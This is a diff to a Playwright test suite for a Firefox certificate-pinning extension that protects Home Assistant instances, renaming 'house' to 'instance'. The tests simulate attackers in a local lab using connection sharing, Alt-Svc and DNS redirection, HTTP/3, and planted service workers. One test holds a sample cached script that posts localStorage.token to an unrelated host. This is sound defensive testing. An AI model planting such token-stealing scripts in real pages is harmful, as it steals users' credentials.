@@ -1,4 +1,4 @@
-// Attackers who need not stand on the house's own connection: what they left in the browser, or lead to another one.
+// Attackers who need not stand on the instance's own connection: what they left in the browser, or lead to another one.
 import { createServer, type AddressInfo } from "node:net";
 import { once } from "node:events";
 import type { Page } from "playwright";
@@ -9,8 +9,8 @@ import { NAIVE } from "../lab/strategies";
 import { setPreference } from "../lab/browser-chrome";
 import { startFirefox, type FirefoxSession } from "../lab/firefox-session";
 import { startHttp3 } from "../lab/http3";
-import { startLab, UNRELATED, type House, type Lab } from "../lab/lab";
-import { housePage } from "../lab/house-pages";
+import { startLab, UNRELATED, type Instance, type Lab } from "../lab/lab";
+import { instancePage } from "../lab/instance-pages";
 import { until } from "../lab/until";
 import { arrives, isChecked, turnOn } from "./guarded";
 import { pin } from "./user";
@@ -28,16 +28,16 @@ interface Options {
   readonly prefs?: Record<string, string | number | boolean>;
 }
 
-async function start({ prefs = {}, ...options }: Options = {}): Promise<{ house: House; page: Page }> {
+async function start({ prefs = {}, ...options }: Options = {}): Promise<{ instance: Instance; page: Page }> {
   lab = await startLab(options);
   // Certificates as good as any to Firefox: before the pin nothing speaks against them.
   firefox = await startFirefox(lab, { prefs: { "security.pki.certificate_transparency.mode": 0, ...prefs } });
-  return { house: await lab.house(lab.publicAuthority), page: await firefox.context.newPage() };
+  return { instance: await lab.instance(lab.publicAuthority), page: await firefox.context.newPage() };
 }
 
-async function guard(house: House, page: Page, isCleared = false): Promise<void> {
-  await pin(firefox, house);
-  const popup = await firefox.extensionPage(`popup.html?address=${house.host}`);
+async function guard(instance: Instance, page: Page, isCleared = false): Promise<void> {
+  await pin(firefox, instance);
+  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
   await popup.getByText("This is your Home Assistant").waitFor();
   await turnOn(firefox, popup);
   if (isCleared) {
@@ -48,10 +48,10 @@ async function guard(house: House, page: Page, isCleared = false): Promise<void>
   await page.bringToFront();
 }
 
-/** He is gone from the house's own connections; what he has left stays. */
-function leave(house: House): void {
-  house.attacker = undefined;
-  house.dropConnections();
+/** He is gone from the instance's own connections; what he has left stays. */
+function leave(instance: Instance): void {
+  instance.attacker = undefined;
+  instance.dropConnections();
 }
 
 const post = (page: Page): Promise<unknown> =>
@@ -59,15 +59,15 @@ const post = (page: Page): Promise<unknown> =>
     `fetch('/auth/token', { method: 'POST', body: '${SECRET}' }).then((answer) => answer.status, () => 'stopped')`,
   );
 
-/** A port of his own, where whoever comes meets him once he is on his way to a house. */
+/** A port of his own, where whoever comes meets him once he is on his way to an instance. */
 async function startHisPort(wanted = 0, address = "127.0.0.1") {
-  let him: House["attacker"];
+  let him: Instance["attacker"];
   const server = createServer((socket) => him?.onConnection(socket, () => undefined));
   server.listen(wanted, address);
   await once(server, "listening");
   return {
     port: (server.address() as AddressInfo).port,
-    meets: ({ attacker }: House): void => {
+    meets: ({ attacker }: Instance): void => {
       him = attacker;
     },
     close: (): void => {
@@ -80,19 +80,19 @@ async function startHisPort(wanted = 0, address = "127.0.0.1") {
 const HTTP3 = { "network.http.http3.disable_when_third_party_roots_found": false };
 
 const WAYS: [way: string, isGuarded: boolean][] = [
-  ["gives it to him where the house is only watched", false],
+  ["gives it to him where the instance is only watched", false],
   ["gives him nothing under Guard", true],
 ];
 
 it.each(WAYS)("another host of his whose connection is shared: %s", async (_, isGuarded) => {
-  const { house, page } = await start({ isRealPort: true });
-  if (isGuarded) await guard(house, page);
-  else await pin(firefox, house);
-  await page.goto(house.url);
+  const { instance, page } = await start({ isRealPort: true });
+  if (isGuarded) await guard(instance, page);
+  else await pin(firefox, instance);
+  await page.goto(instance.url);
   await firefox.buttonShows("Latchkey: verified");
-  // His certificate names the house beside his own host; the house's connections he leaves alone.
-  const loot = await attack(lab, house, NAIVE, { authority: lab.publicAuthority, names: [UNRELATED], http2: true });
-  leave(house);
+  // His certificate names the instance beside his own host; the instance's connections he leaves alone.
+  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority, names: [UNRELATED], http2: true });
+  leave(instance);
   await page.evaluate(`new Promise((done) => {
     const image = new Image();
     image.onload = image.onerror = done;
@@ -103,47 +103,47 @@ it.each(WAYS)("another host of his whose connection is shared: %s", async (_, is
 });
 
 it.each(WAYS)("a port of his that the browser once was told of: %s", async (_, isGuarded) => {
-  const { house, page } = await start();
+  const { instance, page } = await start();
   const his = await startHisPort();
-  const loot = await attack(lab, house, NAIVE, {
+  const loot = await attack(lab, instance, NAIVE, {
     authority: lab.publicAuthority,
     http2: true,
     headers: { "Alt-Svc": `h2=":${String(his.port)}"; ma=86400` },
   });
-  his.meets(house);
+  his.meets(instance);
   const began = Date.now();
-  await page.goto(house.url); // before anybody pinned
-  await isChecked(firefox, house, began);
-  leave(house);
+  await page.goto(instance.url); // before anybody pinned
+  await isChecked(firefox, instance, began);
+  leave(instance);
   await page.goto("about:blank"); // a look from the page's tab would be led there, too
-  if (isGuarded) await guard(house, page);
-  await page.goto(house.url).catch(() => undefined); // may give way to the page that says why
+  if (isGuarded) await guard(instance, page);
+  await page.goto(instance.url).catch(() => undefined); // may give way to the page that says why
   const before = loot.requests();
   await until(
-    async () => (await page.goto(house.url).catch(() => undefined), loot.requests()),
+    async () => (await page.goto(instance.url).catch(() => undefined), loot.requests()),
     (requests) => requests > before || isGuarded,
   );
-  if (page.url().startsWith(house.url)) await post(page);
+  if (page.url().startsWith(instance.url)) await post(page);
   expect(loot.secrets() > 0).toBe(!isGuarded);
   his.close();
 });
 
 it.each(WAYS)("HTTP/3 to a port of his, as his answers in the name system may lead to it: %s", async (_, isGuarded) => {
-  const { house, page } = await start({ prefs: HTTP3 });
-  if (isGuarded) await guard(house, page);
-  else await pin(firefox, house);
-  await page.goto(house.url);
+  const { instance, page } = await start({ prefs: HTTP3 });
+  if (isGuarded) await guard(instance, page);
+  else await pin(firefox, instance);
+  await page.goto(instance.url);
   await firefox.buttonShows("Latchkey: verified");
   const his = await startHisPort();
-  const certificate = await lab.publicAuthority.issue({ names: [house.host] });
-  const server = await startHttp3(house.host, certificate, his.port);
-  const loot = await attack(lab, house, NAIVE, { authority: lab.publicAuthority });
-  his.meets(house);
-  leave(house);
+  const certificate = await lab.publicAuthority.issue({ names: [instance.host] });
+  const server = await startHttp3(instance.host, certificate, his.port);
+  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority });
+  his.meets(instance);
+  leave(instance);
   await setPreference(
     firefox.bidi,
     "network.http.http3.alt-svc-mapping-for-testing",
-    `${house.host};h3=:${String(server.port)}`,
+    `${instance.host};h3=:${String(server.port)}`,
   );
   // Until HTTP/3 is spoken Firefox goes on as before.
   await until(
@@ -158,20 +158,20 @@ it.each(WAYS)("HTTP/3 to a port of his, as his answers in the name system may le
 });
 
 it.each(WAYS)("another computer that the name leads to from one moment to the next: %s", async (_, isGuarded) => {
-  const { house, page } = await start({
+  const { instance, page } = await start({
     prefs: { "network.dns.localDomains": "", "network.dns.forceResolve": "127.0.0.1" },
   });
-  if (isGuarded) await guard(house, page);
-  else await pin(firefox, house);
+  if (isGuarded) await guard(instance, page);
+  else await pin(firefox, instance);
   const began = Date.now();
-  await page.goto(house.url);
+  await page.goto(instance.url);
   await firefox.buttonShows("Latchkey: verified");
-  // A check that is still under way would leave a connection to the house itself behind.
-  await isChecked(firefox, house, began);
-  const loot = await attack(lab, house, NAIVE, { authority: lab.publicAuthority });
+  // A check that is still under way would leave a connection to the instance itself behind.
+  await isChecked(firefox, instance, began);
+  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority });
   const other = await startHisPort(lab.tlsPort, "127.0.0.2");
-  other.meets(house);
-  leave(house);
+  other.meets(instance);
+  leave(instance);
   await setPreference(firefox.bidi, "network.dns.forceResolve", "127.0.0.2");
   expect(await post(page)).toBe(isGuarded ? "stopped" : 200);
   expect(loot.secrets() > 0).toBe(!isGuarded);
@@ -181,24 +181,24 @@ it.each(WAYS)("another computer that the name leads to from one moment to the ne
 
 const HIS_PAGE = "his script was here";
 it.each(WAYS)("a script of his that the browser has kept: %s", async (_, isGuarded) => {
-  const { house, page } = await start();
+  const { instance, page } = await start();
   const steal = `document.title = '${HIS_PAGE}'; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
-  const loot = await attack(lab, house, NAIVE, {
+  const loot = await attack(lab, instance, NAIVE, {
     authority: lab.publicAuthority,
     names: [UNRELATED],
     scripts: { "/static/app.js": steal },
     headers: { "Cache-Control": "public, max-age=86400" },
   });
-  await page.goto(`${house.url}cached`); // before anybody pinned, and before there was anything to steal
+  await page.goto(`${instance.url}cached`); // before anybody pinned, and before there was anything to steal
   await page.evaluate(`localStorage.token = '${SECRET}'`);
-  leave(house);
-  if (isGuarded) await guard(house, page);
-  await page.goto(`${house.url}cached`).catch(() => undefined);
+  leave(instance);
+  if (isGuarded) await guard(instance, page);
+  await page.goto(`${instance.url}cached`).catch(() => undefined);
   if (!isGuarded) await until(loot.secrets, (secrets) => secrets > 0);
   else {
     await until(
       () => page.url(),
-      (url) => !url.startsWith(house.url) || url.endsWith("cached"),
+      (url) => !url.startsWith(instance.url) || url.endsWith("cached"),
     );
     expect(await page.title()).not.toBe(HIS_PAGE);
     expect(loot.secrets()).toBe(0);
@@ -216,7 +216,7 @@ addEventListener('fetch', (event) => {
   })());
 });`;
 const WORKER_WAYS: [way: string, isGuarded: boolean, isCleared: boolean][] = [
-  ["while the house is only watched", false, false],
+  ["while the instance is only watched", false, false],
   ["under Guard", true, false],
   ["under Guard, where what its switch offers is taken", true, true],
 ];
@@ -225,18 +225,18 @@ it.each(WORKER_WAYS)(
   async (_, guarded, isCleared) => {
     // A careful one: nothing of his stays in the cache, where it would be evidence. Firefox keeps a page's icon whatever
     // its headers say, so his has none.
-    const { house, page } = await start({ prefs: { "browser.chrome.site_icons": false } });
+    const { instance, page } = await start({ prefs: { "browser.chrome.site_icons": false } });
     const means = { authority: lab.publicAuthority, names: [UNRELATED], headers: { "Cache-Control": "no-store" } };
-    const loot = await attack(lab, house, NAIVE, { ...means, scripts: { "/his.js": HIS_WORKER } });
-    await page.goto(house.url);
+    const loot = await attack(lab, instance, NAIVE, { ...means, scripts: { "/his.js": HIS_WORKER } });
+    await page.goto(instance.url);
     await page.evaluate(
       "navigator.serviceWorker.register('/his.js').then(() => navigator.serviceWorker.ready).then(() => undefined)",
     );
-    leave(house);
-    if (guarded) await guard(house, page, isCleared);
-    else await pin(firefox, house);
+    leave(instance);
+    if (guarded) await guard(instance, page, isCleared);
+    else await pin(firefox, instance);
     // The page that is open comes from his worker, perhaps: it is loaded again, which may interrupt the next one.
-    await page.goto(house.url).catch(() => undefined);
+    await page.goto(instance.url).catch(() => undefined);
     await firefox.buttonShows("Latchkey: verified");
     await until(
       () => page.evaluate("navigator.serviceWorker.controller?.scriptURL ?? ''").catch(String),
@@ -248,56 +248,56 @@ it.each(WORKER_WAYS)(
 );
 
 it("shows no page of his that the browser has kept whole for the way back", async () => {
-  const { house, page } = await start({ prefs: { "fission.bfcacheInParent": true } });
+  const { instance, page } = await start({ prefs: { "fission.bfcacheInParent": true } });
   const began = Date.now();
-  await pin(firefox, house);
-  await isChecked(firefox, house, began);
-  await attack(lab, house, NAIVE);
-  await page.goto(house.url);
+  await pin(firefox, instance);
+  await isChecked(firefox, instance, began);
+  await attack(lab, instance, NAIVE);
+  await page.goto(instance.url);
   await page.evaluate("globalThis.his = true");
   await page.goto(`https://${UNRELATED}/`);
-  leave(house);
-  const popup = await firefox.extensionPage(`popup.html?address=${house.host}`);
+  leave(instance);
+  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
   await turnOn(firefox, popup);
   await popup.close();
-  house.received.length = 0;
+  instance.received.length = 0;
   await page.evaluate("history.back()");
   await arrives(page, /blocked\.html/u);
-  expect(house.received.filter(({ path }) => path === "/")).toEqual([]);
+  expect(instance.received.filter(({ path }) => path === "/")).toEqual([]);
 });
 
 it.each([
   ["HTTP/2", "h2"],
   ["HTTP/3", "h3"],
-])("sends no secret to a house that shares connections, as in %s, and says why", async (_, protocol) => {
-  const { house, page } = await start({ prefs: HTTP3 });
-  house.http2 = true;
-  const server = protocol === "h3" ? await startHttp3(house.host, house.certificate, lab.directPort) : undefined;
-  house.respond = (request, response) => {
+])("sends no secret to an instance that shares connections, as in %s, and says why", async (_, protocol) => {
+  const { instance, page } = await start({ prefs: HTTP3 });
+  instance.http2 = true;
+  const server = protocol === "h3" ? await startHttp3(instance.host, instance.certificate, lab.directPort) : undefined;
+  instance.respond = (request, response) => {
     if (server !== undefined) response.setHeader("Alt-Svc", `h3=":${String(server.port)}"; ma=86400`);
-    housePage(request, response);
+    instancePage(request, response);
   };
   await until(
     async () => {
-      await page.goto(house.url);
+      await page.goto(instance.url);
       return page.evaluate("performance.getEntriesByType('navigation')[0].nextHopProtocol");
     },
     (spoken) => spoken === protocol,
   );
-  await guard(house, page);
-  await page.goto(house.url);
+  await guard(instance, page);
+  await page.goto(instance.url);
   expect(await post(page)).toBe("stopped");
-  expect(house.received.filter(({ path }) => path === "/auth/token")).toEqual([]);
-  const popup = await firefox.extensionPage(`popup.html?address=${house.host}`);
+  expect(instance.received.filter(({ path }) => path === "/auth/token")).toEqual([]);
+  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
   await popup.getByText("Guard can’t check the connection that would carry a password or token").waitFor();
   await server?.close();
 });
 
-it("sends secrets to a house that answers a probe in pieces, a while after it", async () => {
-  const { house, page } = await start();
-  house.respond = (request, response) => {
+it("sends secrets to an instance that answers a probe in pieces, a while after it", async () => {
+  const { instance, page } = await start();
+  instance.respond = (request, response) => {
     if (request.url?.startsWith(PROBE_PATH) !== true) {
-      housePage(request, response);
+      instancePage(request, response);
       return;
     }
     request.resume();
@@ -307,8 +307,8 @@ it("sends secrets to a house that answers a probe in pieces, a while after it", 
       later(() => response.end("04"));
     });
   };
-  await page.goto(house.url);
-  await guard(house, page);
-  await page.goto(house.url);
+  await page.goto(instance.url);
+  await guard(instance, page);
+  await page.goto(instance.url);
   expect(await post(page)).toBe(200);
 });
